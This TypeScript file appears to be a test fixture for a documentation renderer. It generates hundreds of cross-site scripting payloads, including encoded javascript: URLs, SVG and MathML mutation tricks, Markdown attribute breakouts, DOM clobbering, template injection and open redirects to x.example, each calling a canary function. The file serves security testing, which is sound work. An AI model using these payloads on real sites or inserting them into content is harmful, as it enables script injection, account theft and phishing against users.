/** Name of the function that every attack calls with the number of its place. */
export const ATTACK = 'pwned';

/** An attack of one place. `run` is the call. */
type Attack = (run: string) => string;

/** Characters that browsers or the build change in HTML, so that scripts find other texts in it. */
const unstable = '\u0000\u0001\r\ud800\ue000own.copy\ue001';

/** Attacks in one line, for names and addresses too. */
export const toLine = (place: number): string =>
  `t${place}<img src=x onerror=${ATTACK}(${place})><svg/onload=${ATTACK}(${place})></script><script>${ATTACK}(${place})</script>"'\`]]>--> \u2028${unstable}`;

/**
 * Addresses that run a script, leave for another site or look like an allowed one: schemes in every
 * encoding, control characters, addresses without a scheme, and what ends an attribute.
 */
const addresses: readonly Attack[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => ` \u00a0javascript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `\u3000javascript:${run}`,
  (run) => `\ufeffjavascript:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `javascript\r\n:${run}`,
  (run) => `javascript:\u2028${run}`,
  (run) => `javascript://x.example/%0a${run}`,
  (run) => `javascript:"https://x.example/";${run}`,
  (run) => `java%73cript:${run}`,
  (run) => `javascript%3a${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `&#x6A&#x61&#x76&#x61&#x73cript:${run}`,
  (run) => `javascript&#0000058${run}`,
  (run) => `javascript&NewLine;:${run}`,
  (run) => `java\\u0073cript:${run}`,
  (run) => `feed:javascript:${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `vbscript:${run}`,
  (run) => `livescript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  () => 'blob:https://x.example/1',
  () => 'filesystem:https://x.example/1',
  () => 'jar:https://x.example!/',
  () => 'intent://x.example#Intent;end',
  () => 'file:///etc/passwd',
  () => '//x.example',
  () => '\\\\x.example',
  () => '/\\x.example',
  () => '/\t/x.example',
  () => '///x.example',
  () => 'https:x.example',
  () => 'https:\\\\x.example',
  (run) => `https://x.example/"onmouseover="${run}`,
  (run) => `https://x.example/'><img src=x onerror=${run}>`,
  (run) => `https://x.example/\u0000" onfocus="${run}" autofocus`,
  (run) => `https://a:b@x.example/</a><img src=x onerror=${run}>`,
  (run) => `mailto:"><img src=x onerror=${run}>`,
  (run) => `#"><img src=x onerror=${run}>`,
  () => '\ue000baseUrl\ue001/x.example',
];

/** The address of a place for a field that holds one. Places take turns. */
export const toAddress = (place: number): string =>
  addresses[place % addresses.length]?.(`${ATTACK}(${place})`) ?? '';

/** How many different addresses there are. */
export const addressCount = addresses.length;

const toHref = (address: string): string =>
  `<a href="${address.replaceAll('"', '&quot;')}" xlink:href="${address.replaceAll('"', '&quot;')}">a</a>`;

/** Markup and Markdown, each in a block of its own. */
export const markup: readonly Attack[] = [
  (run) => `<script>${run}</script>`,
  (run) =>
    `Inline <script>${run}</script> <img src=x onerror=${run}> <IMG SRC="x" OnError="${run}"> <svg onload=${run}><script>${run}</script></svg> <details open ontoggle=${run}>`,
  (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  (run) =>
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><template><img src=x onerror=${run}></template><textarea></textarea><img src=x onerror=${run}><xmp><img src=x onerror=${run}></xmp>`,
  (run) =>
    `[a](javascript:${run}) [b](java&#115;cript:${run}) [c](javascript&colon;${run}) [d](jav&Tab;ascript:${run}) [e](&#1;javascript:${run}) [g](<java\tscript:${run}>)`,
  (run) =>
    `[h](data:text/html,<script>${run}</script>) [i](vbscript:${run}) [j](javascript\\:${run}) [k](JaVaScRiPt&#58;${run}) [l](//x.example "<table> onmouseover=${run} a=\\"") <javascript:${run}>`,
  (run) => `[f][r${run}]\n\n[r${run}]: java&#115;cript:${run}`,
  (run) =>
    `![x](x" onerror="${run}) ![y](javascript:${run}) ![z](https://x.example/z.png) ![<img src=x onerror=${run}>](/img/favicon.svg)`,
  (run) =>
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe><object data="javascript:${run}"></object><embed src="javascript:${run}"><form action="https://x.example"><input name=getElementById><button formaction="javascript:${run}">Accept all</button></form>`,
  () =>
    '<base href="https://x.example/"><meta http-equiv="refresh" content="0;url=https://x.example"><link rel=stylesheet href="https://x.example/x.css"><style>*{display:none}</style>',
  (run) =>
    `<a id="__docusaurus" name="location" href="//x.example" style="position:fixed;inset:0" class="navbar button" onclick=${run}>Cookies</a> <span class="token button" data-copied="x" tabindex=0 onfocus=${run} autofocus>x</span>`,
  (run) =>
    `<!-- <img src=x onerror=${run}> --!><img src=x onerror=${run}> <!--><img src=x onerror=${run}>-->`,
  (run) =>
    `\`\`\`"><img src=x onerror=${run}>\n<img src=x onerror=${run}></code></pre><script>${run}</script>\n\`\`\``,
  (run) => `\`\`\`html\n<img src=x onerror=${run}>\n\`\`\``,
  (run) =>
    `\`</code><img src=x onerror=${run}>\` &lt;img src=x onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62; <scr<script>ipt>${run}</scr</script>ipt> </script><script>${run}</script>`,
  (run) =>
    `| <img src=x onerror=${run}> | [a](javascript:${run}) |\n|---|---|\n| <script>${run}</script> | \`<img src=x onerror=${run}>\` |`,
  (run) => `### <img src=x onerror=${run}> {#location}`,
  // SVG: links, animations, external parts, HTML inside.
  (run) =>
    `<svg><a xlink:href="javascript:${run}" href="javascript:${run}"><text y=9>a</text><animate attributeName=href values="javascript:${run}"/></a><set attributeName=onload to=${run} onbegin=${run}></svg>`,
  (run) =>
    `<svg><use href="data:image/svg+xml,<svg id=x><image href=x onerror=${run}></svg>#x"/><image href=x onerror=${run}><feImage href="//x.example"/></svg>`,
  (run) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe><img src=x onerror=${run}></foreignObject><script href="data:,${run}"/></svg>`,
  (run) =>
    `<svg><desc><style><a title="</style></desc></svg><img src=x onerror=${run}>"></a></style></desc></svg>`,
  (run) =>
    `<svg><title><style><img title="</style><img src=x onerror=${run}>"></style></title></svg>`,
  (run) =>
    `<svg><![CDATA[><img src=x onerror=${run}>]]></svg> <![CDATA[><img src=x onerror=${run}>]]>`,
  // MathML: links, HTML inside, and what changes its meaning when it is parsed a second time.
  (run) =>
    `<math href="javascript:${run}"><maction actiontype="statusline#x" xlink:href="javascript:${run}">b</maction></math>`,
  (run) =>
    `<math><annotation-xml encoding="application/xhtml+xml"><style><img title="</style><img src=x onerror=${run}>"></annotation-xml></math>`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  (run) =>
    `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=${run}">`,
  (run) =>
    `<table><tr><td><select><option><style></option></select><img title="</style><img src=x onerror=${run}>"></table>`,
  (run) => `<a title="</a><img src=x onerror=${run}>"><code title="--><img src=x onerror=${run}>">`,
  // Elements whose contents are text for some parsers.
  ...['noembed', 'noframes', 'title', 'listing', 'textarea', 'style', 'iframe', 'noscript'].map(
    (name): Attack =>
      (run) =>
        `<${name}><img title="</${name}><img src=x onerror=${run}>"></${name}>`,
  ),
  (run) =>
    `<div><template shadowrootmode="open"><img src=x onerror=${run}><slot></slot></template></div>`,
  (run) =>
    `<?xml-stylesheet href="javascript:${run}"?><img src=x onerror=${run}>?> <!DOCTYPE html [<!ENTITY x "<img src=x onerror=${run}>">]>&x;`,
  // Pictures, films, forms, styles, old elements.
  (run) =>
    `<picture><source srcset="x 1x" onerror=${run}><img srcset="x 1x, y 2x" sizes=1px onerror=${run}></picture>`,
  (run) =>
    `<video poster="//x.example" src=x onerror=${run}><source src=x onerror=${run}><track src="data:,x" onload=${run}></video><audio src=x onerror=${run} onloadstart=${run}></audio>`,
  (run) =>
    `<input type=image src=x onerror=${run} formaction="javascript:${run}"><isindex type=submit action="javascript:${run}"><select autofocus onfocus=${run}></select><keygen autofocus onfocus=${run}><button form=x formaction="//x.example" formmethod=post>Pay</button>`,
  (run) =>
    `<p style="background:url(javascript:${run});width:expression(${run});behavior:url(x);-moz-binding:url(x);x:\\65xpression(${run})">a</p>`,
  (run) =>
    `<style>@import 'https://x.example/x.css';p{background:url("javascript:${run}")}</style><style onload=${run}></style><table background="//x.example"><td background="javascript:${run}">a</table>`,
  (run) =>
    `<body onload=${run} onpageshow=${run} background="//x.example"><html onmouseover=${run}><frameset onload=${run}><frame src="javascript:${run}"><marquee onstart=${run}>a</marquee><dialog open onclose=${run}>a</dialog><applet code=x></applet><bgsound src="//x.example"><layer src="//x.example"><portal src="//x.example"></portal>`,
  () =>
    '<link rel=prefetch href="//x.example"><link rel=modulepreload href="//x.example"><meta name=referrer content=unsafe-url><meta http-equiv=Content-Security-Policy content="script-src *"><meta http-equiv=Set-Cookie content="a=b"><base target=_blank>',
  (run) =>
    `<script type=module>${run}</script><script type=importmap>{"imports":{"a":"//x.example/a.js"}}</script><script type=speculationrules>{"prefetch":[{"urls":["//x.example"]}]}</script><script type="application/ld+json">{"@id":"</script><script>${run}</script>"}</script>`,
  (run) =>
    `<script src="//x.example/x.js"></script><script/x>${run}</script><sCrIpT\t>${run}</ScRiPt > <<script>${run}//<</script>`,
  // Markup that only some parsers see.
  (run) =>
    `<img/src/onerror=${run}> <img src=\`x\`onerror=${run}> <img src=x:x """><script>${run}</script>"> <a/href="javascript:${run}">a</a> <img src=x\u000conerror=${run}> <img src='x'onerror=${run}> <a\u000bhref="javascript:${run}">b</a> <img src=x onerror\u0000=${run}> <scr\u0000ipt>${run}</scr\u0000ipt>`,
  (run) =>
    `＜script＞${run}＜/script＞ +ADw-script+AD4-${run}+ADw-/script+AD4- %3Cimg%20src%3Dx%20onerror%3D${run}%3E \\u003cimg src=x onerror=${run}\\u003e \\x3cimg src=x onerror=${run}\\x3e &amp;lt;img src=x onerror=${run}&amp;gt; &#x3c;img src=x onerror=${run}&#x3e; &#60img src=x onerror=${run}&#62`,
  // Names and attributes of the page's own parts.
  (run) =>
    `<form id=document><input name=body><input name=cookie></form><a id=DOMPurify></a><a id=x></a><a id=x name=y href="javascript:${run}">a</a><img name=currentScript><object id=navigator></object><iframe name=parent></iframe>`,
  () =>
    '<p class="apiref-lead" data-apiref-island=x data-reference-content data-answers role=alert aria-live=assertive contenteditable popover=auto is=x-y slot=z part=w itemscope lang=x dir=rtl hidden inert>a</p>',
  // What Redoc, template engines and our own marks read in texts.
  (run) =>
    `<SecurityDefinitions /> <!-- ReDoc-Inject: <security-definitions> --> <SchemaDefinition schemaRef="#/components/schemas/Plain" exampleRef="javascript:${run}" /> <redoc spec-url="//x.example"></redoc>`,
  (run) =>
    `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> {${run}} \ue000baseUrl\ue001 [m](\ue000baseUrl\ue001/x.example) [n](https://x.example/\ue000page.none\ue001"onmouseover=${run}) \ue000"onmouseover=${run}\ue001`,
  // Markdown's own ways into an attribute.
  (run) =>
    `[x](https://x.example "\\" onmouseover=${run} x=\\"") [y](<https://x.example/"onmouseover="${run}>) ![z](https://x.example/x.png "\\" onerror=${run} \\"") [z]: javascript:${run} "x"`,
  (run) =>
    `<https://x.example/"onmouseover=${run}> <javascript&colon;${run}> https://x.example/"onmouseover="${run} www.x.example"onmouseover=${run} mailto:"onmouseover=${run}@x.example <a@x.example"onmouseover=${run}>`,
  (run) =>
    `\`\`\`x" onmouseover="${run}\ncode\n\`\`\`\n\n\`\`\`js\n</code></pre><img src=x onerror=${run}>\n\`\`\``,
  (run) => `    </code></pre><img src=x onerror=${run}>`,
  (run) =>
    `1. <img src=x onerror=${run}>\n   > <svg onload=${run}>\n   > - [ ] <img src=x onerror=${run}>`,
  (run) => `Heading <img src=x onerror=${run}>\n---\n\n<h1 id=location onclick=${run}>a</h1>`,
  ...addresses.map(
    (toPlace): Attack =>
      (run) =>
        `${toHref(toPlace(run))} [a](${toPlace(run)}) [b](<${toPlace(run)}>)`,
  ),
  (run) => `<div class="language-x"><pre><code> <img src=x onerror=${run}`,
  () => `$&$\`$' \u2028\u2029 __proto__ constructor ]]> -->`,
  (run) => `<plaintext><img src=x onerror=${run}>`,
];

/** Attacks in one text. All of them in each would make the document too large to render. */
const PER_TEXT = 25;

/** Attacks as Markdown, each in a block of its own. Places take turns with the attacks. */
export const toText = (place: number): string => {
  const blocks = Array.from({length: PER_TEXT}, (_, index) =>
    markup[(place * PER_TEXT + index) % markup.length]?.(`${ATTACK}(${place})`),
  );
  return [`Text ${place}.`, ...blocks].join('\n\n');
};
